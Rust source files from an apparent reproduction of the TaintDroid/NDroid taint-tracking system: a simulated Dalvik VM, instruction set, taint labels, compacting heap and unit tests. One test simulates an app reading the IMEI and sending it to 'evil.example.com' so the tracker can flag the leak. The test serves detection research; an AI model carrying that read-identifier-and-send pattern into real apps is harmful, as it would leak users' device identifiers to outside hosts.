                        op: BinOp::Add,
                        dst: 0,
                        a: 0,
                        b: 1,
                    },
                    DexInsn::BinOpLit {
                        op: BinOp::Sub,
                        dst: 1,
                        a: 1,
                        lit: 1,
                    },
                    DexInsn::IfTestZ {
                        op: CmpOp::Ne,
                        a: 1,
                        target: 2,
                    },
                    DexInsn::Return { src: 0 },
                ],
                2,
                0,
            );
        });
        let (v, _) = dvm.invoke_with(m, &[], &mut NoNatives).unwrap();
        assert_eq!(v, 55);
    }

    #[test]
    fn taint_flows_from_source_to_sink() {
        // getDeviceId() → send(dest, imei): leak must be recorded.
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            let imei = p.find_method_by_name("Landroid/telephony/TelephonyManager;", "getDeviceId").unwrap();
            let send = p.find_method_by_name("Ljava/net/Socket;", "send").unwrap();
            let dest = p.intern("evil.example.com");
            m = main_class(
                p,
                vec![
                    DexInsn::Invoke {
                        kind: InvokeKind::Static,
                        method: imei,
                        args: vec![],
                    },
                    DexInsn::MoveResult { dst: 0 },
                    DexInsn::ConstString { dst: 1, index: dest },
                    DexInsn::Invoke {
                        kind: InvokeKind::Static,
                        method: send,
                        args: vec![1, 0],
                    },
                    DexInsn::ReturnVoid,
                ],
                2,
                0,
            );
        });
        dvm.invoke_with(m, &[], &mut NoNatives).unwrap();
        let leaks: Vec<_> = dvm.leaks().collect();
        assert_eq!(leaks.len(), 1);
        assert_eq!(leaks[0].taint, Taint::IMEI);
        assert_eq!(leaks[0].dest, "evil.example.com");
        assert_eq!(leaks[0].sink, "Socket.send");
        assert_eq!(leaks[0].context, SinkContext::Java);
    }

    #[test]
    fn untainted_send_is_not_a_leak() {
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            let send = p.find_method_by_name("Ljava/net/Socket;", "send").unwrap();
            let dest = p.intern("ok.example.com");
            let data = p.intern("hello");
            m = main_class(
                p,
                vec![
                    DexInsn::ConstString { dst: 0, index: data },
                    DexInsn::ConstString { dst: 1, index: dest },
                    DexInsn::Invoke {
                        kind: InvokeKind::Static,
                        method: send,
                        args: vec![1, 0],
                    },
                    DexInsn::ReturnVoid,
                ],
                2,
                0,
            );
        });
        dvm.invoke_with(m, &[], &mut NoNatives).unwrap();
        assert_eq!(dvm.events.len(), 1, "sink call recorded");
        assert_eq!(dvm.leaks().count(), 0, "but it is not a leak");
    }

    #[test]
    fn binop_unions_taint() {
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            m = main_class(
                p,
                vec![
                    DexInsn::BinOp {
                        op: BinOp::Add,
                        dst: 0,
                        a: 1,
                        b: 2,
                    },
                    DexInsn::Return { src: 0 },
                ],
                3,
                2,
            );
        });
        let (v, t) = dvm
            .invoke_with(m, &[(40, Taint::IMEI), (2, Taint::SMS)], &mut NoNatives)
            .unwrap();
        assert_eq!(v, 42);
        assert_eq!(t, Taint::IMEI | Taint::SMS);
    }

    #[test]
    fn taint_tracking_can_be_disabled() {
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            m = main_class(
                p,
                vec![
                    DexInsn::BinOp {
                        op: BinOp::Add,
                        dst: 0,
                        a: 1,
                        b: 2,
                    },
                    DexInsn::Return { src: 0 },
                ],
                3,
                2,
            );
        });
        dvm.taint_tracking = false;
        let (_, t) = dvm
            .invoke_with(m, &[(40, Taint::IMEI), (2, Taint::SMS)], &mut NoNatives)
            .unwrap();
        assert!(t.is_clear());
    }

    #[test]
    fn array_carries_single_label() {
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            m = main_class(
                p,
                vec![
                    DexInsn::Const { dst: 0, value: 4 },
                    DexInsn::NewArray {
                        dst: 1,
                        size: 0,
                        kind: ArrayKind::Primitive,
                    },
                    DexInsn::Const { dst: 2, value: 0 }, // index
                    // v3 is the tainted in-arg (reg 3 of 4).
                    DexInsn::ArrayPut {
                        src: 3,
                        arr: 1,
                        idx: 2,
                    },
                    DexInsn::Const { dst: 2, value: 1 },
                    // Read back a DIFFERENT element: still tainted,
                    // because the array has ONE label (TaintDroid rule).
                    DexInsn::ArrayGet {
                        dst: 0,
                        arr: 1,
                        idx: 2,
                    },
                    DexInsn::Return { src: 0 },
                ],
                4,
                1,
            );
        });
        let (_, t) = dvm
            .invoke_with(m, &[(0x99, Taint::CONTACTS)], &mut NoNatives)
            .unwrap();
        assert_eq!(t, Taint::CONTACTS, "whole-array label over-approximates");
    }

    #[test]
    fn instance_fields_track_per_field() {
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            let c = p.add_class(ClassDef {
                name: "Lapp/Holder;".into(),
                instance_fields: vec![
                    crate::class::FieldDef {
                        name: "a".into(),
                        is_reference: false,
                    },
                    crate::class::FieldDef {
                        name: "b".into(),
                        is_reference: false,
                    },
                ],
                ..ClassDef::default()
            });
            let main = p.add_class(ClassDef {
                name: "Lapp/Main;".into(),
                ..ClassDef::default()
            });
            m = p.add_method(
                main,
                MethodDef::new(
                    "main",
                    "II",
                    MethodKind::Bytecode(vec![
                        DexInsn::NewInstance { dst: 0, class: c },
                        DexInsn::IPut {
                            src: 2, // tainted arg
                            obj: 0,
                            field: 0,
                        },
                        DexInsn::IGet {
                            dst: 1,
                            obj: 0,
                            field: 1, // the OTHER field: clear
                        },
                        DexInsn::IGet {
                            dst: 1,
                            obj: 0,
                            field: 0, // the tainted field
                        },
                        DexInsn::Return { src: 1 },
                    ]),
                )
                .with_registers(3),
            );
        });
        let (_, t) = dvm
            .invoke_with(m, &[(7, Taint::SMS)], &mut NoNatives)
            .unwrap();
        assert_eq!(t, Taint::SMS, "per-field labels are precise");
    }

    #[test]
    fn statics_roundtrip_taint() {
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            let c = p.add_class(ClassDef {
                name: "Lapp/G;".into(),
                static_fields: vec![crate::class::FieldDef {
                    name: "cache".into(),
                    is_reference: false,
                }],
                ..ClassDef::default()
            });
            let main = p.add_class(ClassDef {
                name: "Lapp/Main;".into(),
                ..ClassDef::default()
            });
            m = p.add_method(
                main,
                MethodDef::new(
                    "main",
                    "II",
                    MethodKind::Bytecode(vec![
                        DexInsn::SPut {
                            src: 1,
                            class: c,
                            field: 0,
                        },
                        DexInsn::SGet {
                            dst: 0,
                            class: c,
                            field: 0,
                        },
                        DexInsn::Return { src: 0 },
                    ]),
                )
                .with_registers(2),
            );
        });
        let (v, t) = dvm
            .invoke_with(m, &[(0x1234, Taint::IMSI)], &mut NoNatives)
            .unwrap();
        assert_eq!(v, 0x1234);
        assert_eq!(t, Taint::IMSI);
    }

    #[test]
    fn taintdroid_jni_policy_taints_return_iff_params_tainted() {
        struct FakeNative;
        impl NativeHandler for FakeNative {
            fn call_native(
                &mut self,
                _dvm: &mut Dvm,
                _method: MethodId,
                args: &[u32],
                _taints: &[Taint],
            ) -> Result<(u32, Taint), DvmError> {
                Ok((args.iter().sum(), Taint::CLEAR))
            }
        }
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            let c = p.add_class(ClassDef {
                name: "Lapp/N;".into(),
                ..ClassDef::default()
            });
            m = p.add_method(c, MethodDef::new("work", "III", MethodKind::Native { entry: 0x1000 }));
        });
        // Tainted parameter → tainted return (TaintDroid's rule).
        let (v, t) = dvm
            .invoke_with(m, &[(1, Taint::IMEI), (2, Taint::CLEAR)], &mut FakeNative)
            .unwrap();
        assert_eq!(v, 3);
        assert_eq!(t, Taint::IMEI);
        // No tainted parameter → clear return even though the native
        // could have touched tainted data (the under-tainting!).
        let (_, t) = dvm
            .invoke_with(m, &[(1, Taint::CLEAR), (2, Taint::CLEAR)], &mut FakeNative)
            .unwrap();
        assert!(t.is_clear());
    }

    #[test]
    fn exception_throw_and_catch() {
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            let get_msg = p
                .find_method_by_name("Ljava/lang/Throwable;", "getMessage")
                .unwrap();
            let thrower_class = p.add_class(ClassDef {
                name: "Lapp/T;".into(),
                ..ClassDef::default()
            });
            // Method that divides by zero → ArithmeticException.
            let boom = p.add_method(
                thrower_class,
                MethodDef::new(
                    "boom",
                    "I",
                    MethodKind::Bytecode(vec![
                        DexInsn::Const { dst: 0, value: 1 },
                        DexInsn::Const { dst: 1, value: 0 },
                        DexInsn::BinOp {
                            op: BinOp::Div,
                            dst: 0,
                            a: 0,
                            b: 1,
                        },
                        DexInsn::Return { src: 0 },
                    ]),
                )
                .with_registers(2),
            );
            let main = p.add_class(ClassDef {
                name: "Lapp/Main;".into(),
                ..ClassDef::default()
            });
            m = p.add_method(
                main,
                MethodDef::new(
                    "main",
                    "I",
                    MethodKind::Bytecode(vec![
                        DexInsn::Invoke {
                            kind: InvokeKind::Static,
                            method: boom,
                            args: vec![],
                        },
                        DexInsn::Const { dst: 0, value: 0 },
                        DexInsn::Return { src: 0 },
                        // 3: catch handler
                        DexInsn::MoveException { dst: 1 },
                        DexInsn::Invoke {
                            kind: InvokeKind::Static,
                            method: get_msg,
                            args: vec![1],
                        },
                        DexInsn::Const { dst: 0, value: 99 },
                        DexInsn::Return { src: 0 },
                    ]),
                )
                .with_registers(2)
                .with_catch_all(3),
            );
        });
        let (v, _) = dvm.invoke_with(m, &[], &mut NoNatives).unwrap();
        assert_eq!(v, 99, "catch handler ran");
    }

    #[test]
    fn uncaught_exception_is_an_error() {
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            m = main_class(
                p,
                vec![
                    DexInsn::Const { dst: 0, value: 5 },
                    DexInsn::Const { dst: 1, value: 0 },
                    DexInsn::BinOp {
                        op: BinOp::Div,
                        dst: 0,
                        a: 0,
                        b: 1,
                    },
                    DexInsn::Return { src: 0 },
                ],
                2,
                0,
            );
        });
        let err = dvm.invoke_with(m, &[], &mut NoNatives).unwrap_err();
        assert!(matches!(err, DvmError::UncaughtException(_)));
        assert_eq!(dvm.stack.depth(), 0, "frames unwound");
    }

    #[test]
    fn fuel_bounds_runaway_loops() {
        let mut m = MethodId(0);
        let mut dvm = vm_with(|p| {
            m = main_class(p, vec![DexInsn::Goto { target: 0 }], 1, 0);
        });
        dvm.fuel = 1000;
        assert_eq!(
            dvm.invoke_with(m, &[], &mut NoNatives).unwrap_err(),
            DvmError::OutOfFuel
        );
    }

    #[test]
    fn string_concat_unions_taints() {
        let mut dvm = vm_with(|_| {});
        let a = dvm.new_string("imei=", Taint::CLEAR);
        let b = dvm.new_string("12345", Taint::IMEI);
        let (v, t) = dvm
            .run_intrinsic(
                Intrinsic::StringConcat,
                &[(a, Taint::CLEAR), (b, Taint::IMEI)],
            )
            .unwrap();
        assert_eq!(t, Taint::IMEI);
        let (s, ot) = dvm.string_at(v).unwrap();
        assert_eq!(s, "imei=12345");
        assert_eq!(ot, Taint::IMEI);
    }

    #[test]
    fn gc_moves_objects_mid_execution() {
        let mut dvm = vm_with(|_| {});
        let v = dvm.new_string("survives", Taint::SMS);
        let id = Dvm::expect_obj(v).unwrap();
        let before = dvm.heap.direct_addr(id).unwrap();
        dvm.gc();
        assert_ne!(dvm.heap.direct_addr(id).unwrap(), before);
        let (s, t) = dvm.string_at(v).unwrap();
        assert_eq!(s, "survives");
        assert_eq!(t, Taint::SMS);
    }
}
