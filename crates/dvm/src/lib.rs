#![warn(missing_docs)]

//! # ndroid-dvm
//!
//! A register-based mini-Dalvik virtual machine with TaintDroid's
//! modifications, the managed-runtime substrate of the NDroid
//! reproduction.
//!
//! The VM reproduces the structures NDroid's DVM hook engine depends on:
//!
//! * [`stack`] — the modified interpreter stack of TaintDroid's Fig. 1:
//!   taint labels interleaved with registers, a `StackSaveArea` per
//!   frame, and the return-value taint in the thread's
//!   `InterpSaveState`.
//! * [`taint`] — TaintDroid's 32-bit taint label format (one bit per
//!   sensitive-information type, combined by union).
//! * [`heap`] / [`object`] — `StringObject`/`ArrayObject` carrying a
//!   single taint label, instances with per-field labels interleaved in
//!   the instance data area, and a **moving** garbage collector so
//!   direct object pointers are unstable.
//! * [`indirect`] — the indirect-reference table Android ≥ 4.0 hands to
//!   native code instead of raw pointers.
//! * [`interp`] — the bytecode interpreter with TaintDroid's
//!   per-instruction propagation rules, including the JNI policy that
//!   under-taints ("the return value is tainted iff any parameter is
//!   tainted") which NDroid exists to fix.
//! * [`framework`] — the Android-framework sources (IMEI, contacts,
//!   SMS, …) and Java-context sinks (network send) TaintDroid monitors.

pub mod bytecode;
pub mod class;
pub mod error;
pub mod framework;
pub mod heap;
pub mod indirect;
pub mod interp;
pub mod object;
pub mod stack;
pub mod taint;

pub use bytecode::{BinOp, CmpOp, DexInsn, InvokeKind};
pub use class::{ClassDef, ClassId, FieldDef, FieldId, MethodDef, MethodId, MethodKind, Program};
pub use error::DvmError;
pub use heap::{Heap, ObjectId};
pub use indirect::{IndirectRef, IndirectRefKind, IndirectRefTable};
pub use interp::{Dvm, LeakEvent, NativeHandler, SinkContext};
pub use object::{ArrayKind, HeapObject};
pub use taint::Taint;
