//! The Dalvik-style bytecode instruction set interpreted by [`crate::interp`].
//!
//! Registers are frame-local `v0..v(registers_size-1)`; arguments arrive
//! in the last `ins_size` registers, as in real Dalvik.

/// Binary arithmetic/logic operators.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum BinOp {
    /// Wrapping addition.
    Add,
    /// Wrapping subtraction.
    Sub,
    /// Wrapping multiplication.
    Mul,
    /// Signed division (errors on divide-by-zero like a Java exception).
    Div,
    /// Signed remainder.
    Rem,
    /// Bitwise AND.
    And,
    /// Bitwise OR.
    Or,
    /// Bitwise XOR.
    Xor,
    /// Logical shift left.
    Shl,
    /// Logical shift right.
    Shr,
}

impl BinOp {
    /// Applies the operator (wrapping semantics; `Div`/`Rem` by zero
    /// return `None`).
    pub fn apply(self, a: u32, b: u32) -> Option<u32> {
        Some(match self {
            BinOp::Add => a.wrapping_add(b),
            BinOp::Sub => a.wrapping_sub(b),
            BinOp::Mul => a.wrapping_mul(b),
            BinOp::Div => {
                if b == 0 {
                    return None;
                }
                (a as i32).wrapping_div(b as i32) as u32
            }
            BinOp::Rem => {
                if b == 0 {
                    return None;
                }
                (a as i32).wrapping_rem(b as i32) as u32
            }
            BinOp::And => a & b,
            BinOp::Or => a | b,
            BinOp::Xor => a ^ b,
            BinOp::Shl => a.wrapping_shl(b & 31),
            BinOp::Shr => a.wrapping_shr(b & 31),
        })
    }
}

/// Comparison operators for `if-test` instructions.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum CmpOp {
    /// Equal.
    Eq,
    /// Not equal.
    Ne,
    /// Signed less-than.
    Lt,
    /// Signed greater-or-equal.
    Ge,
    /// Signed greater-than.
    Gt,
    /// Signed less-or-equal.
    Le,
}

impl CmpOp {
    /// Evaluates the comparison on signed 32-bit values.
    pub fn test(self, a: u32, b: u32) -> bool {
        let (a, b) = (a as i32, b as i32);
        match self {
            CmpOp::Eq => a == b,
            CmpOp::Ne => a != b,
            CmpOp::Lt => a < b,
            CmpOp::Ge => a >= b,
            CmpOp::Gt => a > b,
            CmpOp::Le => a <= b,
        }
    }
}

/// Kinds of method invocation.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum InvokeKind {
    /// `invoke-virtual` (receiver in the first argument register).
    Virtual,
    /// `invoke-static`.
    Static,
}

/// One Dalvik-style instruction.
///
/// Register operands are indexes into the current frame.
#[derive(Debug, Clone, PartialEq)]
pub enum DexInsn {
    /// `const vA, #lit`
    Const {
        /// Destination register.
        dst: u16,
        /// Literal value.
        value: u32,
    },
    /// `const-string vA, string@idx` — allocates an untainted string.
    ConstString {
        /// Destination register.
        dst: u16,
        /// Index into [`crate::class::Program::strings`].
        index: u32,
    },
    /// `move vA, vB` (taint moves with the value).
    Move {
        /// Destination register.
        dst: u16,
        /// Source register.
        src: u16,
    },
    /// `move-result vA` — fetches the last invocation's return value and
    /// taint from the thread's `InterpSaveState`.
    MoveResult {
        /// Destination register.
        dst: u16,
    },
    /// `binop vA, vB, vC` — taint of A = taint(B) ∪ taint(C).
    BinOp {
        /// Operator.
        op: BinOp,
        /// Destination register.
        dst: u16,
        /// Left operand register.
        a: u16,
        /// Right operand register.
        b: u16,
    },
    /// `binop/lit vA, vB, #lit` — taint of A = taint(B).
    BinOpLit {
        /// Operator.
        op: BinOp,
        /// Destination register.
        dst: u16,
        /// Operand register.
        a: u16,
        /// Literal right operand.
        lit: u32,
    },
    /// `neg vA, vB`
    Neg {
        /// Destination register.
        dst: u16,
        /// Source register.
        src: u16,
    },
    /// `if-test vA, vB, +off`
    IfTest {
        /// Comparison.
        op: CmpOp,
        /// Left register.
        a: u16,
        /// Right register.
        b: u16,
        /// Absolute instruction index to jump to when true.
        target: u32,
    },
    /// `if-testz vA, +off`
    IfTestZ {
        /// Comparison against zero.
        op: CmpOp,
        /// Register compared with zero.
        a: u16,
        /// Absolute instruction index to jump to when true.
        target: u32,
    },
    /// `goto +off`
    Goto {
        /// Absolute instruction index.
        target: u32,
    },
    /// `new-instance vA, type@class`
    NewInstance {
        /// Destination register.
        dst: u16,
        /// Class to instantiate.
        class: crate::class::ClassId,
    },
    /// `new-array vA, vB(size)`
    NewArray {
        /// Destination register.
        dst: u16,
        /// Register holding the element count.
        size: u16,
        /// Element kind.
        kind: crate::object::ArrayKind,
    },
    /// `array-length vA, vB`
    ArrayLength {
        /// Destination register.
        dst: u16,
        /// Array reference register.
        arr: u16,
    },
    /// `aget vA, vB(arr), vC(idx)` — dst taint = array taint ∪ index taint.
    ArrayGet {
        /// Destination register.
        dst: u16,
        /// Array reference register.
        arr: u16,
        /// Index register.
        idx: u16,
    },
    /// `aput vA(src), vB(arr), vC(idx)` — array taint ∪= src taint.
    ArrayPut {
        /// Source register.
        src: u16,
        /// Array reference register.
        arr: u16,
        /// Index register.
        idx: u16,
    },
    /// `iget vA, vB(obj), field@idx`
    IGet {
        /// Destination register.
        dst: u16,
        /// Object reference register.
        obj: u16,
        /// Field index within the instance.
        field: u16,
    },
    /// `iput vA(src), vB(obj), field@idx`
    IPut {
        /// Source register.
        src: u16,
        /// Object reference register.
        obj: u16,
        /// Field index within the instance.
        field: u16,
    },
    /// `sget vA, field@(class, idx)`
    SGet {
        /// Destination register.
        dst: u16,
        /// Owning class.
        class: crate::class::ClassId,
        /// Static field index.
        field: u16,
    },
    /// `sput vA, field@(class, idx)`
    SPut {
        /// Source register.
        src: u16,
        /// Owning class.
        class: crate::class::ClassId,
        /// Static field index.
        field: u16,
    },
    /// `invoke-kind {vC, vD, …} method@id`
    Invoke {
        /// Invocation kind.
        kind: InvokeKind,
        /// Callee.
        method: crate::class::MethodId,
        /// Argument registers (for virtual calls, `args[0]` is `this`).
        args: Vec<u16>,
    },
    /// `return vA`
    Return {
        /// Register whose value (and taint) is returned.
        src: u16,
    },
    /// `return-void`
    ReturnVoid,
    /// `throw vA` — throws the exception object in vA.
    Throw {
        /// Exception reference register.
        src: u16,
    },
    /// `move-exception vA` — fetches the pending exception at the start
    /// of a catch handler.
    MoveException {
        /// Destination register.
        dst: u16,
    },
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn binop_semantics() {
        assert_eq!(BinOp::Add.apply(u32::MAX, 1), Some(0));
        assert_eq!(BinOp::Sub.apply(0, 1), Some(u32::MAX));
        assert_eq!(BinOp::Mul.apply(6, 7), Some(42));
        assert_eq!(BinOp::Div.apply(7, 2), Some(3));
        assert_eq!(BinOp::Div.apply((-7i32) as u32, 2), Some((-3i32) as u32));
        assert_eq!(BinOp::Div.apply(1, 0), None);
        assert_eq!(BinOp::Rem.apply(7, 0), None);
        assert_eq!(BinOp::Rem.apply(7, 4), Some(3));
        assert_eq!(BinOp::And.apply(0b1100, 0b1010), Some(0b1000));
        assert_eq!(BinOp::Or.apply(0b1100, 0b1010), Some(0b1110));
        assert_eq!(BinOp::Xor.apply(0b1100, 0b1010), Some(0b0110));
        assert_eq!(BinOp::Shl.apply(1, 4), Some(16));
        assert_eq!(BinOp::Shr.apply(16, 4), Some(1));
        assert_eq!(BinOp::Shl.apply(1, 33), Some(2), "shift masks to 5 bits");
    }

    #[test]
    fn cmp_semantics_are_signed() {
        assert!(CmpOp::Lt.test((-1i32) as u32, 0));
        assert!(!CmpOp::Lt.test(1, 0));
        assert!(CmpOp::Ge.test(0, 0));
        assert!(CmpOp::Eq.test(5, 5));
        assert!(CmpOp::Ne.test(5, 6));
        assert!(CmpOp::Gt.test(6, 5));
        assert!(CmpOp::Le.test(5, 5));
    }
}
