//! TaintDroid's 32-bit taint label format.
//!
//! "The taint labels in TaintDroid are represented by 32bit integers,
//! each bit of a taint label indicates one type of sensitive
//! information, and different types of sensitive information are
//! combined by the union operation of different taint labels." (§II-B)
//!
//! NDroid adopts the same format so the two systems' taints compose
//! ("let the taints added by NDroid follow TaintDroid's format so that
//! they can work together smoothly", §V-A).

use std::fmt;
use std::ops::{BitOr, BitOrAssign};

/// A 32-bit taint label; each bit marks one sensitive-information type.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, Default, PartialOrd, Ord)]
pub struct Taint(pub u32);

impl Taint {
    /// No taint (the paper's `TAINT_CLEAR`).
    pub const CLEAR: Taint = Taint(0);
    /// Location (coarse).
    pub const LOCATION: Taint = Taint(0x0001);
    /// Address-book contacts.
    pub const CONTACTS: Taint = Taint(0x0002);
    /// Microphone input.
    pub const MIC: Taint = Taint(0x0004);
    /// Phone number.
    pub const PHONE_NUMBER: Taint = Taint(0x0008);
    /// GPS location.
    pub const LOCATION_GPS: Taint = Taint(0x0010);
    /// Network-derived location.
    pub const LOCATION_NET: Taint = Taint(0x0020);
    /// Last known location.
    pub const LOCATION_LAST: Taint = Taint(0x0040);
    /// Camera data.
    pub const CAMERA: Taint = Taint(0x0080);
    /// Accelerometer data.
    pub const ACCELEROMETER: Taint = Taint(0x0100);
    /// SMS message content.
    pub const SMS: Taint = Taint(0x0200);
    /// IMEI device identifier.
    pub const IMEI: Taint = Taint(0x0400);
    /// IMSI subscriber identifier.
    pub const IMSI: Taint = Taint(0x0800);
    /// SIM card identifier (ICCID).
    pub const ICCID: Taint = Taint(0x1000);
    /// Device serial number.
    pub const DEVICE_SN: Taint = Taint(0x2000);
    /// User account information.
    pub const ACCOUNT: Taint = Taint(0x4000);
    /// Browser history.
    pub const HISTORY: Taint = Taint(0x8000);

    /// Whether any taint bit is set.
    #[inline]
    pub fn is_tainted(self) -> bool {
        self.0 != 0
    }

    /// Whether no taint bit is set.
    #[inline]
    pub fn is_clear(self) -> bool {
        self.0 == 0
    }

    /// Union with another label (the propagation combinator).
    #[inline]
    #[must_use]
    pub fn union(self, other: Taint) -> Taint {
        Taint(self.0 | other.0)
    }

    /// Whether this label carries every bit of `other`.
    #[inline]
    pub fn contains(self, other: Taint) -> bool {
        self.0 & other.0 == other.0
    }

    /// Whether this label shares any bit with `other`.
    #[inline]
    pub fn intersects(self, other: Taint) -> bool {
        self.0 & other.0 != 0
    }

    /// Names of the sensitive-information types in this label.
    pub fn source_names(self) -> Vec<&'static str> {
        const TABLE: [(u32, &str); 16] = [
            (0x0001, "location"),
            (0x0002, "contacts"),
            (0x0004, "microphone"),
            (0x0008, "phone-number"),
            (0x0010, "location-gps"),
            (0x0020, "location-net"),
            (0x0040, "location-last"),
            (0x0080, "camera"),
            (0x0100, "accelerometer"),
            (0x0200, "sms"),
            (0x0400, "imei"),
            (0x0800, "imsi"),
            (0x1000, "iccid"),
            (0x2000, "device-sn"),
            (0x4000, "account"),
            (0x8000, "history"),
        ];
        TABLE
            .iter()
            .filter(|(bit, _)| self.0 & bit != 0)
            .map(|(_, name)| *name)
            .collect()
    }

    /// Human-readable name of a *single* label bit (as raw `u32`), for
    /// rendering provenance leak paths and DOT edge labels. Unknown or
    /// multi-bit values fall back to hex.
    pub fn bit_name(bit: u32) -> String {
        if bit.count_ones() == 1 {
            if let Some(name) = Taint(bit).source_names().first() {
                return (*name).to_string();
            }
        }
        format!("{bit:#x}")
    }
}

impl BitOr for Taint {
    type Output = Taint;
    fn bitor(self, rhs: Taint) -> Taint {
        self.union(rhs)
    }
}

impl BitOrAssign for Taint {
    fn bitor_assign(&mut self, rhs: Taint) {
        self.0 |= rhs.0;
    }
}

impl From<u32> for Taint {
    fn from(bits: u32) -> Taint {
        Taint(bits)
    }
}

impl fmt::Display for Taint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{:#x}", self.0)
    }
}

impl fmt::LowerHex for Taint {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        fmt::LowerHex::fmt(&self.0, f)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn union_is_bitwise_or() {
        let t = Taint::SMS | Taint::CONTACTS;
        assert_eq!(t.0, 0x202, "the paper's QQPhoneBook label");
        assert!(t.is_tainted());
        assert!(t.contains(Taint::SMS));
        assert!(t.contains(Taint::CONTACTS));
        assert!(!t.contains(Taint::IMEI));
        assert!(t.intersects(Taint::SMS | Taint::IMEI));
    }

    #[test]
    fn clear_is_empty() {
        assert!(Taint::CLEAR.is_clear());
        assert!(!Taint::CLEAR.is_tainted());
        assert_eq!(Taint::CLEAR | Taint::CLEAR, Taint::CLEAR);
        assert_eq!(Taint::IMEI | Taint::CLEAR, Taint::IMEI);
    }

    #[test]
    fn source_names_match_bits() {
        let t = Taint::SMS | Taint::CONTACTS;
        assert_eq!(t.source_names(), vec!["contacts", "sms"]);
        assert!(Taint::CLEAR.source_names().is_empty());
    }

    #[test]
    fn poc3_label_decomposes() {
        // Fig. 9's 0x1602 = ICCID | IMEI | SMS | CONTACTS.
        let t = Taint(0x1602);
        assert!(t.contains(Taint::ICCID));
        assert!(t.contains(Taint::IMEI));
        assert!(t.contains(Taint::SMS));
        assert!(t.contains(Taint::CONTACTS));
    }

    #[test]
    fn display_is_hex() {
        assert_eq!(Taint(0x202).to_string(), "0x202");
        assert_eq!(format!("{:x}", Taint(0x1602)), "1602");
    }

    #[test]
    fn or_assign() {
        let mut t = Taint::CLEAR;
        t |= Taint::IMEI;
        t |= Taint::SMS;
        assert_eq!(t, Taint::IMEI | Taint::SMS);
    }
}
