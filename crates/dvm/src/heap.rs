//! The managed heap, with a **moving** (compacting) collector.
//!
//! Since Android 4.0 "the garbage collector moves an object \[and\]
//! updates the indirect reference table with the object's new location.
//! Consequently, native codes will hold valid object pointers every
//! time GC moves objects around" (§II-A). To reproduce the hazard that
//! forces NDroid to key native-side shadow memory by *indirect
//! reference* rather than direct pointer, every object here has a
//! guest-visible **direct address** that [`Heap::compact`] reassigns.

use crate::error::DvmError;
use crate::object::HeapObject;
use crate::taint::Taint;
use std::collections::HashMap;
use std::rc::Rc;

/// Stable identity of a heap object (survives GC moves).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub struct ObjectId(pub u32);

/// Base of the guest-visible address range the DVM heap occupies
/// (matches the `0x41xxxxxx` object addresses in the paper's logs).
pub const HEAP_BASE: u32 = 0x4100_0000;

/// The managed object heap.
///
/// Objects are `Rc`-shared **copy-on-write**: cloning the heap (for a
/// snapshot fork) is one refcount bump per object, and a mutable
/// borrow privatizes just the touched object via `Rc::make_mut` — so
/// thousands of forked scenarios share one warmed-up heap image.
#[derive(Debug, Default, Clone)]
pub struct Heap {
    objects: Vec<Option<Rc<HeapObject>>>,
    direct_addrs: Vec<u32>,
    by_addr: HashMap<u32, ObjectId>,
    next_addr: u32,
    /// Number of compactions performed (each one moves every object).
    pub gc_cycles: u32,
    /// Total bytes conceptually allocated.
    pub bytes_allocated: usize,
}

impl Heap {
    /// An empty heap.
    pub fn new() -> Heap {
        Heap {
            objects: Vec::new(),
            direct_addrs: Vec::new(),
            by_addr: HashMap::new(),
            next_addr: HEAP_BASE,
            gc_cycles: 0,
            bytes_allocated: 0,
        }
    }

    /// Number of live objects.
    pub fn len(&self) -> usize {
        self.objects.iter().filter(|o| o.is_some()).count()
    }

    /// Whether the heap holds no objects.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }

    /// Allocates `obj`, returning its stable id.
    pub fn alloc(&mut self, obj: HeapObject) -> ObjectId {
        let size = obj.size_bytes();
        self.bytes_allocated += size;
        let id = ObjectId(self.objects.len() as u32);
        let addr = self.next_addr;
        self.next_addr += ((size as u32) + 7) & !7;
        self.objects.push(Some(Rc::new(obj)));
        self.direct_addrs.push(addr);
        self.by_addr.insert(addr, id);
        id
    }

    /// Convenience: allocates a string object.
    pub fn alloc_string(&mut self, value: impl Into<String>, taint: Taint) -> ObjectId {
        self.alloc(HeapObject::String {
            value: value.into(),
            taint,
        })
    }

    /// Borrows the object with `id`.
    ///
    /// # Errors
    ///
    /// [`DvmError::DanglingObject`] if the id was freed or never existed.
    pub fn get(&self, id: ObjectId) -> Result<&HeapObject, DvmError> {
        self.objects
            .get(id.0 as usize)
            .and_then(|o| o.as_deref())
            .ok_or(DvmError::DanglingObject(id.0))
    }

    /// Mutably borrows the object with `id`.
    ///
    /// # Errors
    ///
    /// [`DvmError::DanglingObject`] if the id was freed or never existed.
    pub fn get_mut(&mut self, id: ObjectId) -> Result<&mut HeapObject, DvmError> {
        self.objects
            .get_mut(id.0 as usize)
            .and_then(|o| o.as_mut())
            .map(Rc::make_mut)
            .ok_or(DvmError::DanglingObject(id.0))
    }

    /// The object's current guest-visible direct address. **Unstable**:
    /// invalidated by [`compact`](Heap::compact).
    ///
    /// # Errors
    ///
    /// [`DvmError::DanglingObject`] if the id does not resolve.
    pub fn direct_addr(&self, id: ObjectId) -> Result<u32, DvmError> {
        if self.objects.get(id.0 as usize).and_then(|o| o.as_ref()).is_some() {
            Ok(self.direct_addrs[id.0 as usize])
        } else {
            Err(DvmError::DanglingObject(id.0))
        }
    }

    /// Resolves a direct address back to an object id (what
